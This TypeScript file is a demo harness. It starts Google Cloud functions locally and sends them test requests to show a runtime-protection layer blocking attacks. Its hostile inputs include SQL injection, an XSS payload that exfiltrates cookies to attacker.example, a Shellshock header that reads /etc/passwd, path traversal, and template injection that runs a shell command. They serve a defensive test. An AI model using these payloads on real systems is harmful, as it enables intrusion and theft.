/**
 * Google Cloud: gcp-app.ts (the functions of examples/gcp-functions, compiled into dist/ with the demo)
 * served by the REAL functions-framework CLI on 127.0.0.1, one process per function as Cloud Run
 * functions runs it: `api` (HTTP) and `fulfilOrder` (CloudEvent, Pub/Sub messagePublished). Requests
 * go over loopback with fetch; the security events are the JSON lines the functions write to stdout,
 * matched to requests by execution id (HTTP) or CloudEvent id.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
// Type-only: the app runs in the functions-framework processes, not here.
import type { MessagePublishedData } from './gcp-app';
import { primary, ruleOf, short, whereOf, type FindingLike, type Row } from './table';

const root = path.resolve(__dirname, '..', '..', '..');
const CLI = path.join(root, 'node_modules', '.bin', 'functions-framework');
const SOURCE = path.join(__dirname, 'gcp-app.js');

interface LogLine {
  type?: string;
  msg?: string;
  eventId?: string;
  requestId?: string;
  action?: string;
  findings?: FindingLike[];
}

export interface Server {
  target: string;
  pid: number;
  port: number;
  url: string;
  lines(): LogLine[];
  output(): string;
  stop(): Promise<void>;
}

/** Every server this process started and has not stopped yet: killed when the demo exits early (an error, Ctrl-C). */
const running = new Set<ChildProcess>();
process.on('exit', () => {
  for (const child of running) child.kill('SIGKILL');
});
// Ctrl-C (or a test runner's timeout) during the demo: take the servers down too.
for (const [signal, code] of [['SIGINT', 130], ['SIGTERM', 143]] as const) {
  process.once(signal, () => {
    for (const child of running) child.kill('SIGKILL');
    process.exit(code);
  });
}

async function freePort(): Promise<number> {
  return new Promise((resolve, reject) => {
    const srv = net.createServer();
    srv.once('error', reject);
    srv.listen(0, '127.0.0.1', () => {
      const { port } = srv.address() as net.AddressInfo;
      srv.close(() => resolve(port));
    });
  });
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** `functions-framework --target=<name> --source=<compiled app> --port=<free port> --host=127.0.0.1`. */
export async function serve(target: string): Promise<Server> {
  if (!fs.existsSync(SOURCE)) throw new Error(`${SOURCE} is missing: run \`npm run build\` first`);
  const port = await freePort();
  let out = '';
  const child = spawn(process.execPath, [CLI, `--target=${target}`, `--source=${SOURCE}`, `--port=${port}`, '--host=127.0.0.1'], {
    cwd: root,
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  running.add(child);
  const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
  void exited.then(() => running.delete(child));
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));

  const stop = async (): Promise<void> => {
    if (child.exitCode !== null || child.signalCode !== null) return;
    child.kill('SIGTERM');
    const timer = setTimeout(() => child.kill('SIGKILL'), 3000);
    await exited;
    clearTimeout(timer);
  };

  const url = `http://127.0.0.1:${port}`;
  const deadline = Date.now() + 20_000;
  for (;;) {
    if (child.exitCode !== null) throw new Error(`functions-framework (${target}) exited with ${child.exitCode}:\n${out}`);
    try {
      await (await fetch(url, { method: 'OPTIONS' })).arrayBuffer();
      break;
    } catch {
      if (Date.now() > deadline) {
        await stop();
        throw new Error(`functions-framework (${target}) did not start within 20 s:\n${out}`);
      }
      await sleep(50);
    }
  }

  const lines = (): LogLine[] => {
    const parsed: LogLine[] = [];
    for (const l of out.split('\n')) {
      if (!l.startsWith('{')) continue;
      try {
        parsed.push(JSON.parse(l) as LogLine);
      } catch {
        // a partial line: complete on the next read
      }
    }
    return parsed;
  };
  return { target, pid: child.pid!, port, url, lines, output: () => out, stop };
}

/** Waits (briefly) for the log line that tells what became of a request. */
async function lineFor(srv: Server, match: (l: LogLine) => boolean, ms = 5000): Promise<LogLine | undefined> {
  const end = Date.now() + ms;
  for (;;) {
    const hit = srv.lines().find(match);
    if (hit || Date.now() > end) return hit;
    await sleep(20);
  }
}

const ORDER = {
  customer: { name: "Ann O'Neil", email: 'ann.oneil@example.com' },
  items: [
    { sku: 'TSHIRT-42', qty: 2 },
    { sku: 'MUG-7', qty: 1 },
  ],
  note: 'Leave it at the door, please; ring twice.',
};

export interface GcpResult {
  servers: Server[];
}

export async function runGcp(rows: Row[]): Promise<GcpResult> {
  const started = await Promise.allSettled([serve('api'), serve('fulfilOrder')]);
  const servers = started.flatMap((s) => (s.status === 'fulfilled' ? [s.value] : []));
  const failed = started.find((s): s is PromiseRejectedResult => s.status === 'rejected');
  if (failed) {
    await Promise.all(servers.map((s) => s.stop()));
    throw failed.reason;
  }
  const [api, events] = servers as [Server, Server];
  try {
    let seq = 0;
    const http = async (trigger: string, input: string, pathAndQuery: string, init: RequestInit = {}): Promise<void> => {
      const id = `demo-gcp-${++seq}`;
      const res = await fetch(`${api.url}${pathAndQuery}`, { ...init, headers: { ...(init.headers as Record<string, string>), 'function-execution-id': id } });
      await res.arrayBuffer();
      const stopped = res.status === 403 || res.status === 400;
      const e = stopped ? await lineFor(api, (l) => l.type === 'serverless-rasp' && l.requestId === id) : undefined;
      rows.push({
        provider: 'GCP',
        trigger,
        input: short(input),
        verdict: res.status === 403 ? 'BLOCKED 403' : res.status === 400 ? 'REJECTED 400' : `allowed ${res.status}`,
        rule: ruleOf(primary(e?.findings)),
        where: whereOf(primary(e?.findings)),
      });
    };
    const post = (body: unknown): RequestInit => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

    await http('HTTP body', 'POST /orders (valid order)', '/orders', post(ORDER));
    await http('HTTP body', `POST /orders customer.name: x' OR '1'='1`, '/orders', post({ ...ORDER, customer: { name: "x' OR '1'='1", email: 'x@example.com' } }));
    await http('HTTP body', 'POST /orders items: [] (schema: minItems 1)', '/orders', post({ ...ORDER, items: [] }));
    await http('HTTP query', "GET /orders?q=O'Brien & Sons", `/orders?q=${encodeURIComponent("O'Brien & Sons")}`);
    const xss = '<script>fetch("//attacker.example/"+document.cookie)</script>';
    await http('HTTP query', `GET /orders?q=${xss}`, `/orders?q=${encodeURIComponent(xss)}`);
    await http('HTTP header', 'User-Agent: () { :; }; /bin/bash -c "cat /etc/passwd"', '/orders', { headers: { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' } });
    await http('HTTP path', 'GET /orders/..%2f..%2f..%2fetc%2fpasswd', '/orders/..%2f..%2f..%2fetc%2fpasswd');

    // Pub/Sub push through Eventarc: a CloudEvent in binary content mode, the message base64 in data.
    const publish = async (input: string, message: unknown): Promise<void> => {
      const id = `demo-evt-${++seq}`;
      const data: MessagePublishedData = {
        message: { data: Buffer.from(JSON.stringify(message)).toString('base64'), attributes: {}, messageId: id, publishTime: new Date().toISOString() },
        subscription: 'projects/demo-project/subscriptions/eventarc-orders-sub',
      };
      const res = await fetch(events.url, {
        method: 'POST',
        headers: {
          'content-type': 'application/json',
          'ce-id': id,
          'ce-specversion': '1.0',
          'ce-source': '//pubsub.googleapis.com/projects/demo-project/topics/orders',
          'ce-type': 'google.cloud.pubsub.topic.v1.messagePublished',
          'ce-time': new Date().toISOString(),
        },
        body: JSON.stringify(data),
      });
      await res.arrayBuffer();
      // The function either logs "order fulfilled" (handler ran) or protect() logs the security event.
      const l = await lineFor(events, (x) => (x.type === 'serverless-rasp' && x.requestId === id) || (x.msg === 'order fulfilled' && x.eventId === id));
      const dropped = l?.type === 'serverless-rasp' && l.action === 'block';
      rows.push({
        provider: 'GCP',
        trigger: 'Pub/Sub CloudEvent',
        input: short(input),
        verdict: dropped ? `dropped ${res.status} (ack)` : l?.msg === 'order fulfilled' ? `processed ${res.status}` : `unknown ${res.status}`,
        rule: dropped ? ruleOf(primary(l.findings)) : '-',
        where: dropped ? whereOf(primary(l.findings)) : '-',
      });
    };
    await publish('{"customer":…,"items":[…],"note":"Leave it at the door…"}', ORDER);
    const ssti = '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}';
    await publish(`note: ${ssti}`, { ...ORDER, note: ssti });
  } finally {
    await Promise.all(servers.map((s) => s.stop()));
  }
  return { servers };
}

/** True when nothing accepts connections on 127.0.0.1:port any more. */
export async function closed(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = net.connect({ port, host: '127.0.0.1' });
    socket.once('connect', () => {
      socket.destroy();
      resolve(false);
    });
    socket.once('error', () => resolve(true));
  });
}
